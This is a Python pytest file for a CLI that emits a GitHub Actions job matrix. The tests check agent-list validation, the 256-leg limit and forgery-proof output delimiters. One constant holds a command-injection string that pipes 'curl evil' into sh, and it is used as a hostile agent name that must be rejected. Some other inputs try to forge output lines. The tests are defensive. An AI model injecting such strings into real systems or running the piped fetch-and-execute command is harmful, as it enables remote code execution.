"""emit-matrix: the fan-out matrix as a step output, and the limits checked before any job."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import assert_user_error, run_cli

from agents.registry import default_registry
from orchestration.github.cli import set_output
from orchestration.github.matrix import MAX_LEGS, MatrixError, build_matrix, matrix_json

HOSTILE = '"; curl evil | sh; #'


def _emit(tmp_path: Path, *args: str | Path, output: bool = True) -> Any:
    target = tmp_path / "github_output"
    env = {"GITHUB_OUTPUT": str(target) if output else ""}
    return run_cli("-m", "orchestration", "emit-matrix", *args, env=env), target


def test_matrix_is_written_as_one_output_line(tmp_path: Path) -> None:
    target = tmp_path / "github_output"
    target.write_text("earlier=1\n")  # other steps' outputs stay
    proc, target = _emit(tmp_path, "--agents", '["security", "cost_estimation"]')
    assert proc.returncode == 0, proc.stderr
    assert target.read_text() == ('earlier=1\nmatrix={"agent":["security","cost_estimation"]}\n')


def test_agents_can_come_from_a_file_and_the_output_be_renamed(tmp_path: Path) -> None:
    agents = tmp_path / "agents.json"
    agents.write_text(json.dumps(["network_flow"]))
    proc, target = _emit(tmp_path, "--agents-file", agents, "--name", "legs")
    assert proc.returncode == 0, proc.stderr
    assert target.read_text() == 'legs={"agent":["network_flow"]}\n'


def test_outside_actions_the_output_is_printed(tmp_path: Path) -> None:
    proc, target = _emit(tmp_path, "--agents", '["security"]', output=False)
    assert proc.stdout == 'matrix={"agent":["security"]}\n'
    assert not target.exists()


@pytest.mark.parametrize(
    ("agents", "needle"),
    [
        pytest.param("[]", "empty", id="empty"),
        pytest.param('{"agent": "security"}', "expected a JSON list", id="not-a-list"),
        pytest.param("[security]", "not JSON", id="not-json"),
        pytest.param('["security", "nope"]', "unknown agent 'nope'", id="unknown"),
        pytest.param('["security", "security"]', "listed twice", id="duplicate"),
        pytest.param('["security", 3]', "must be strings", id="not-a-string"),
        pytest.param(json.dumps([HOSTILE]), "unknown agent", id="hostile-name"),
        pytest.param(json.dumps(["security"] * 257), "GitHub allows 256", id="too-many-legs"),
    ],
)
def test_bad_agent_lists_are_one_line_and_write_nothing(
    tmp_path: Path, agents: str, needle: str
) -> None:
    proc, target = _emit(tmp_path, "--agents", agents)
    assert_user_error(proc, needle)
    assert not target.exists()


def test_exactly_one_source_of_agents(tmp_path: Path) -> None:
    proc, _ = _emit(tmp_path)
    assert_user_error(proc, "exactly one of --agents")


def test_256_legs_are_allowed_257_are_not() -> None:
    known = [f"agent_{i}" for i in range(MAX_LEGS + 1)]
    matrix = build_matrix(known[:MAX_LEGS], known)
    assert len(matrix["agent"]) == MAX_LEGS
    assert "\n" not in matrix_json(matrix)
    with pytest.raises(MatrixError, match="257 legs"):
        build_matrix(known, known)


def test_the_matrix_knows_the_registered_agents() -> None:
    names = default_registry().names()
    assert build_matrix(names, names) == {"agent": names}


def test_multi_line_outputs_use_a_delimiter_that_cannot_be_forged(tmp_path: Path) -> None:
    target = tmp_path / "github_output"
    value = "line one\nEOF\nmatrix=forged"
    set_output("report", value, {"GITHUB_OUTPUT": str(target)})
    text = target.read_text()
    head, *body, tail = text.splitlines()
    name, delimiter = head.split("<<")
    assert name == "report"
    assert tail == delimiter and delimiter not in value
    assert "\n".join(body) == value


@pytest.mark.parametrize("name", ["", "a=b", "a\nb", "1abc"])
def test_output_names_are_checked(tmp_path: Path, name: str) -> None:
    with pytest.raises(Exception, match="output name"):
        set_output(name, "v", {"GITHUB_OUTPUT": str(tmp_path / "out")})
